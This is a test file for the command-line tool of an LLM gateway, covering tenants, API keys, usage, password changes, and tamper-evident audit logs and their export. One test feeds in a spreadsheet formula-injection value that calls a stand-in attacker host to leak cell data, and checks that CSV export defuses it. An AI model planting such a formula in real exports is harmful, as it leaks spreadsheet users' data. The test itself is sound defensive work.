import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import BetterSqlite3 from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { BIN, run } from '../support/cli.js';
import { startMockUpstream } from '../support/mock-upstream.js';

function serve(config: string, cwd: string): Promise<{ child: ChildProcess; url: string; banner: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, 'serve', '--config', config], { cwd });
    let err = '';
    child.stderr.on('data', (d) => {
      err += d;
      const m = /jugwon gateway on (http:\/\/\S+)\/v1[\s\S]*?\n {2}model /.exec(err);
      if (m) resolve({ child, url: m[1] as string, banner: err });
    });
    child.on('exit', (code) => reject(new Error(`serve exited ${code}: ${err}`)));
  });
}

async function setup() {
  const dir = mkdtempSync(join(tmpdir(), 'jugwon-acli-'));
  const upstream = await startMockUpstream();
  writeFileSync(
    join(dir, 'jugwon.yaml'),
    `server: { port: 0 }\ndataDir: ./data\nmodels:\n  - { id: home, provider: openai-compatible, baseUrl: "${upstream.url}", residency: onprem }\n`,
  );
  return { dir, upstream };
}

describe('the first start', () => {
  it('creates a console user to sign in with, shown once, and the second start creates none', async () => {
    const { dir, upstream } = await setup();
    try {
      const first = await serve('jugwon.yaml', dir);
      let password = '';
      try {
        const m =
          /first console sign-in at (\S+)\/ — tenant: admin, user: admin, password: (\S+) \(shown once/.exec(
            first.banner,
          );
        expect(m?.[1]).toBe(first.url);
        password = m?.[2] as string;
        expect(password.length).toBeGreaterThanOrEqual(20);
        const signIn = await fetch(`${first.url}/api/session`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ tenant: 'admin', user: 'admin', password }),
        });
        expect(signIn.status).toBe(200);
        expect(await signIn.json()).toMatchObject({ user: 'admin', tenant: 'admin', role: 'operator' });
      } finally {
        first.child.kill('SIGTERM');
        await new Promise((r) => first.child.once('exit', r));
      }
      const second = await serve('jugwon.yaml', dir);
      second.child.kill('SIGTERM');
      await new Promise((r) => second.child.once('exit', r));
      expect(second.banner).not.toContain('first console sign-in');
      expect(second.banner).not.toContain(password);
      const log = await run(['audit', 'export', '--config', 'jugwon.yaml'], dir);
      expect(log.stdout).toContain('"decision":"user.create"');
      expect(log.stdout).not.toContain(password);
    } finally {
      await upstream.close();
    }
  });
});

describe('tenants, keys, usage and audit on the command line (contract)', () => {
  it('creates a tenant and a key (JSON), which then authenticates; usage and audit follow', async () => {
    const { dir, upstream } = await setup();
    try {
      const t = await run(
        ['tenants', 'create', 'acme', '--config', 'jugwon.yaml', '--rpm', '50', '--tokens-per-day', '100000'],
        dir,
      );
      expect(t.code).toBe(0);
      const k = await run(['keys', 'create', '--tenant', 'acme', '--config', 'jugwon.yaml', '--json'], dir);
      expect(k.code).toBe(0);
      const created = JSON.parse(k.stdout);
      expect(Object.keys(created)).toEqual(expect.arrayContaining(['key', 'id']));
      expect(created.key).toMatch(/^jg_[0-9a-f]{16}_/);
      const s = await serve('jugwon.yaml', dir);
      try {
        const ok = await fetch(`${s.url}/v1/chat/completions`, {
          method: 'POST',
          headers: { authorization: `Bearer ${created.key}`, 'content-type': 'application/json' },
          body: JSON.stringify({ model: 'home', messages: [{ role: 'user', content: '안녕' }] }),
        });
        expect(ok.status).toBe(200);
        const anonymous = await fetch(`${s.url}/v1/models`);
        expect(anonymous.status).toBe(401);
      } finally {
        s.child.kill('SIGTERM');
        await new Promise((r) => s.child.once('exit', r));
      }
      const usage = await run(['usage', '--config', 'jugwon.yaml', '--json'], dir);
      expect(JSON.parse(usage.stdout)).toEqual([
        expect.objectContaining({ tenant: 'acme', model: 'home', requests: 1, errors: 0 }),
      ]);
      const table = await run(['usage', '--config', 'jugwon.yaml'], dir);
      expect(table.stdout).toMatch(/acme\s+home\s+1\s+0/);
      const verify = await run(['audit', 'verify', '--config', 'jugwon.yaml'], dir);
      expect(verify.code).toBe(0);
      // The tenant and key, the first console user (its tenant and itself), the request, the refusal.
      expect(verify.stdout).toMatch(/^OK: 6 records/);
      const csv = await run(['audit', 'export', '--config', 'jugwon.yaml', '--format', 'csv'], dir);
      expect(csv.stdout.split('\n')[0]).toBe(
        'seq,hash,time,kind,tenant,keyId,route,model,residency,decision,rule,pii,promptTokens,completionTokens,latencyMs,status,outcome,target,user,requestId',
      );
      const jsonl = await run(
        ['audit', 'export', '--config', 'jugwon.yaml', '--from', '2000-01-01', '--to', '2999-12-31'],
        dir,
      );
      expect(
        jsonl.stdout
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l).decision),
      ).toEqual(['tenant.create', 'key.create', 'tenant.create', 'user.create', 'allow', 'error']);
      const none = await run(['audit', 'export', '--config', 'jugwon.yaml', '--to', '2000-01-01'], dir);
      expect(none.stdout).toBe('');
      // A reference that a spreadsheet would run as a formula is exported as text.
      const reference = '=HYPERLINK("http://evil.example/?"&A1,"열기")';
      const found = await run(
        ['subject', 'find', '010-1234-5678', '--config', 'jugwon.yaml', '--reference', reference],
        dir,
      );
      expect(found.code).toBe(0);
      const csvAgain = await run(['audit', 'export', '--config', 'jugwon.yaml', '--format', 'csv'], dir);
      expect(csvAgain.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""열기"");`);
      expect(csvAgain.stdout).not.toMatch(/(^|,)"?=HYPERLINK/m);
      // Tampering is named, with a non-zero exit.
      const db = new BetterSqlite3(join(dir, 'data', 'jugwon.db'));
      db.prepare(`UPDATE audit_log SET record = replace(record, '"acme"', '"evil"') WHERE seq = 5`).run();
      db.close();
      const bad = await run(['audit', 'verify', '--config', 'jugwon.yaml'], dir);
      expect(bad.code).toBe(1);
      expect(bad.stderr).toContain('JG_AUDIT_INVALID: Audit record 5 fails verification');
    } finally {
      await upstream.close();
    }
  }, 60_000);

  it('creates keys that expire (--expires), and refuses an expiry that is past, now or unreadable', async () => {
    const { dir, upstream } = await setup();
    try {
      expect((await run(['tenants', 'create', 'acme', '--config', 'jugwon.yaml'], dir)).code).toBe(0);
      const made = await run(
        ['keys', 'create', '--tenant', 'acme', '--expires', '2h', '--json', '--config', 'jugwon.yaml'],
        dir,
      );
      const hours = (Date.parse(JSON.parse(made.stdout).expiresAt) - Date.now()) / 3_600_000;
      expect(hours).toBeGreaterThan(1.9);
      expect(hours).toBeLessThanOrEqual(2);
      // A key born expired was created without a word; a duration past year 275760 was JG_INTERNAL.
      for (const expires of ['0h', '2000-01-01', '999999999d', 'soon', '-5d']) {
        const bad = await run(
          ['keys', 'create', '--tenant', 'acme', '--expires', expires, '--config', 'jugwon.yaml'],
          dir,
        );
        expect([expires, bad.code, bad.stderr]).toEqual([
          expires,
          2,
          expect.stringContaining('--expires must be'),
        ]);
      }
    } finally {
      await upstream.close();
    }
  });

  it('refuses dates that are no dates on audit export and usage (they matched nothing, or all)', async () => {
    const { dir, upstream } = await setup();
    try {
      expect((await run(['tenants', 'create', 'acme', '--config', 'jugwon.yaml'], dir)).code).toBe(0);
      for (const args of [
        ['audit', 'export', '--from', 'garbage'],
        ['audit', 'export', '--to', '2026-13-45'],
        ['audit', 'export', '--from', '2026-12-02', '--to', '2026-11-01'],
        ['usage', '--from', 'nonsense'],
        ['usage', '--to', '2026-12-02T10:00:00Z'],
      ]) {
        const bad = await run([...args, '--config', 'jugwon.yaml'], dir);
        expect([args.join(' '), bad.code, bad.stdout, bad.stderr]).toEqual([
          args.join(' '),
          2,
          '',
          expect.stringMatching(/JG_INVALID_VALUE: "(from|to)"/),
        ]);
      }
      // An instant with an offset is read as the moment it names (09:00 in Seoul is 00:00 UTC).
      const created = JSON.parse(
        (await run(['audit', 'export', '--config', 'jugwon.yaml'], dir)).stdout.split('\n')[0] as string,
      ).time as string;
      const seoul = new Date(Date.parse(created) + 9 * 3_600_000).toISOString().replace('Z', '+09:00');
      const at = await run(
        ['audit', 'export', '--from', seoul, '--to', seoul, '--config', 'jugwon.yaml'],
        dir,
      );
      expect(
        at.stdout
          .split('\n')
          .filter(Boolean)
          .map((l) => JSON.parse(l).time),
      ).toEqual([created]);
    } finally {
      await upstream.close();
    }
  });

  it('creates a user with a console password and sets a new one (users passwd)', async () => {
    const { dir, upstream } = await setup();
    try {
      const cfg = ['--config', 'jugwon.yaml'];
      expect((await run(['tenants', 'create', 'acme', ...cfg], dir)).code).toBe(0);
      const created = await run(
        ['users', 'create', 'kim', '--tenant', 'acme', '--password-stdin', ...cfg],
        dir,
        {
          input: 'correct horse battery\n',
        },
      );
      expect(created.code).toBe(0);
      const short = await run(['users', 'passwd', 'kim', '--tenant', 'acme', ...cfg], dir, {
        input: 'short\n',
      });
      expect([short.code, short.stderr]).toEqual([2, expect.stringContaining('at least 12 characters')]);
      const nobody = await run(['users', 'passwd', 'lee', '--tenant', 'acme', ...cfg], dir, {
        input: 'staple battery horse\n',
      });
      expect([nobody.code, nobody.stderr]).toEqual([2, expect.stringContaining('no user named "lee"')]);
      const ok = await run(['users', 'passwd', 'kim', '--tenant', 'acme', ...cfg], dir, {
        input: 'staple battery horse\n',
      });
      expect([ok.code, ok.stdout]).toEqual([
        0,
        'set the password of kim in acme; their console sessions ended\n',
      ]);
      const db = new BetterSqlite3(join(dir, 'data', 'jugwon.db'));
      const { Sessions } = await import('../../src/tenancy/sessions.js');
      const { sqliteDirectory } = await import('../../src/tenancy/directory.js');
      const sessions = new Sessions(sqliteDirectory(db));
      await expect(sessions.signIn('acme', 'kim', 'correct horse battery')).rejects.toThrow(/Sign-in failed/);
      expect((await sessions.signIn('acme', 'kim', 'staple battery horse')).user.userName).toBe('kim');
      db.close();
      const trail = await run(['audit', 'export', ...cfg], dir);
      expect(trail.stdout).toContain('"decision":"user.password"');
      expect(trail.stdout).not.toContain('staple');
    } finally {
      await upstream.close();
    }
  }, 60_000);

  it('keeps every answered request in a verifiable log when the server is killed under load', async () => {
    const { dir, upstream } = await setup();
    try {
      const s = await serve('jugwon.yaml', dir);
      const answered: string[] = [];
      let stop = false;
      const worker = async (w: number) => {
        for (let i = 0; !stop; i++) {
          const id = `w${w}-${i}`;
          try {
            const res = await fetch(`${s.url}/v1/chat/completions`, {
              method: 'POST',
              headers: { 'content-type': 'application/json', 'x-request-id': id },
              body: JSON.stringify({ model: 'home', messages: [{ role: 'user', content: `요청 ${id}` }] }),
            });
            if (res.status === 200) {
              await res.text();
              answered.push(id);
            }
          } catch {
            return; // the server is gone
          }
        }
      };
      const workers = Array.from({ length: 8 }, (_, w) => worker(w));
      while (answered.length < 150) await new Promise((r) => setTimeout(r, 10));
      s.child.kill('SIGKILL');
      stop = true;
      await Promise.all(workers);
      const verify = await run(['audit', 'verify', '--config', 'jugwon.yaml', '--json'], dir);
      const result = JSON.parse(verify.stdout);
      expect(result.ok).toBe(true);
      const exported = await run(['audit', 'export', '--config', 'jugwon.yaml'], dir);
      const logged = new Set(
        exported.stdout
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l).requestId),
      );
      const missing = answered.filter((id) => !logged.has(id));
      expect(missing).toEqual([]);
      expect(answered.length).toBeGreaterThanOrEqual(150);
    } finally {
      await upstream.close();
    }
  }, 60_000);
});
